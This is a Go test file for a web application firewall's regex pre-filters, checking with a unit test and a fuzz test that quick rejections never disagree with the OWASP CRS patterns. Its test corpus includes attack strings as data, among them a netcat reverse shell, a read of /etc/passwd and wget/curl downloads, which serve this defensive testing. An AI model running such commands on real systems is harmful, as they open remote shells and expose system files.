package wafrx

import (
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/rampart-proxy/rampart/internal/crsregress"
)

// quietCorpus is quiet inputs to check quiet pre-filters on: benign
// values, and the suite's payloads decoded with every quiet byte removed
// (attack-like text that a quiet input can still carry: "cat /etc/passwd",
// "busybox wget", "select 1 from").
func quietCorpus(tb testing.TB) []string {
	strip := func(s string) string {
		return strings.Map(func(r rune) rune {
			if r < 0x80 && strings.ContainsRune(quietBytes, r) {
				return -1
			}
			return r
		}, s)
	}
	out := []string{"", "shoes", "red sneakers 1179931", "Mozilla/5.0 X11 Linux x86_64 rv:128.0 Gecko/20100101 Firefox/128.0",
		"https://shop.example.test/products/149?category=shoes", "cat /etc/passwd", "busybox wget http://x/y", "nc -e /bin/sh 1.2.3.4 80",
		"python3 -c import os", "ls -la", "sleep 5", "uname -a", "whoami", "id", "echo hi", "curl -o /tmp/x http://h/", "sh -c id"}
	cases, err := crsregress.Load()
	if err != nil {
		tb.Fatal(err)
	}
	for _, c := range cases {
		for _, s := range []string{c.URI, string(c.Body)} {
			if len(s) > 4096 {
				continue
			}
			out = append(out, strip(s))
			if u, err := url.QueryUnescape(s); err == nil {
				out = append(out, strip(u), strip(strings.ToLower(u)))
			}
			for _, kv := range strings.Split(s, "&") {
				if _, v, ok := strings.Cut(kv, "="); ok {
					if u, err := url.QueryUnescape(v); err == nil {
						out = append(out, strip(u))
					}
				}
			}
		}
	}
	return out
}

// TestQuietPrefilterSound: for every CRS @rx pattern and every quiet
// input of the corpus, a quiet pre-filter that rejects the input (or says
// no quiet input matches) is never contradicted by the regexp, and the
// reduced regexp agrees with the pattern's on every input.
func TestQuietPrefilterSound(t *testing.T) {
	getBuilds(t)
	corpus := quietCorpus(t)
	if raceEnabled {
		corpus = corpus[:len(corpus)/50] // the full corpus runs without -race
	}
	checked, rejected, withQuiet, reduced := 0, 0, 0, 0
	for _, p := range crsPatterns {
		q := quietOf(p)
		qp, never := q.pf, q.never
		if qp == nil && !never {
			continue
		}
		withQuiet++
		re := regexp.MustCompile(p)
		if q.re != nil {
			reduced++
		}
		for _, s := range corpus {
			var m byteMask
			for i := 0; i < len(s); i++ {
				m.add(lowerASCII(s[i]))
			}
			if !isQuiet(&m) {
				t.Fatalf("corpus input %q is not quiet", s)
			}
			checked++
			if q.re != nil && q.re.MatchString(s) != re.MatchString(s) {
				t.Errorf("reduced regexp of %.80s says %v on %q, the pattern %v", p, q.re.MatchString(s), s, re.MatchString(s))
			}
			if never || !qp.MayMatch(s) {
				rejected++
				if re.MatchString(s) {
					t.Errorf("quiet pre-filter of %.80s rejects %q, but the regexp matches it", p, s)
				}
			}
		}
	}
	t.Logf("%d patterns with a quiet pre-filter (%d with a reduced regexp), %d checks, %d rejections", withQuiet, reduced, checked, rejected)
	if withQuiet < 200 || rejected == 0 || reduced < 200 {
		t.Fatalf("only %d patterns with a quiet pre-filter, %d rejections", withQuiet, rejected)
	}
}

// FuzzQuietPrefilter: any input, stripped of quiet bytes, against every
// CRS pattern's quiet pre-filter and reduced regexp.
// Run: go test ./internal/wafrx -run '^$' -fuzz FuzzQuietPrefilter -fuzztime 60s
func FuzzQuietPrefilter(f *testing.F) {
	getBuilds(f)
	type qp struct {
		re *regexp.Regexp
		q  quietResult
	}
	var ps []qp
	for _, p := range crsPatterns {
		if q := quietOf(p); q.pf != nil || q.never || q.re != nil {
			ps = append(ps, qp{regexp.MustCompile(p), q})
		}
	}
	for i, s := range quietCorpus(f) {
		if i%50 == 0 {
			f.Add(s)
		}
	}
	f.Fuzz(func(t *testing.T, in string) {
		in = strings.Map(func(r rune) rune {
			if r < 0x80 && strings.ContainsRune(quietBytes, r) {
				return -1
			}
			return r
		}, in)
		for _, p := range ps {
			m := p.re.MatchString(in)
			if (p.q.never || p.q.pf != nil && !p.q.pf.MayMatch(in)) && m {
				t.Fatalf("quiet pre-filter rejects %q, but %s matches it", in, p.re)
			}
			if p.q.re != nil && p.q.re.MatchString(in) != m {
				t.Fatalf("reduced regexp of %s disagrees on %q", p.re, in)
			}
		}
	})
}
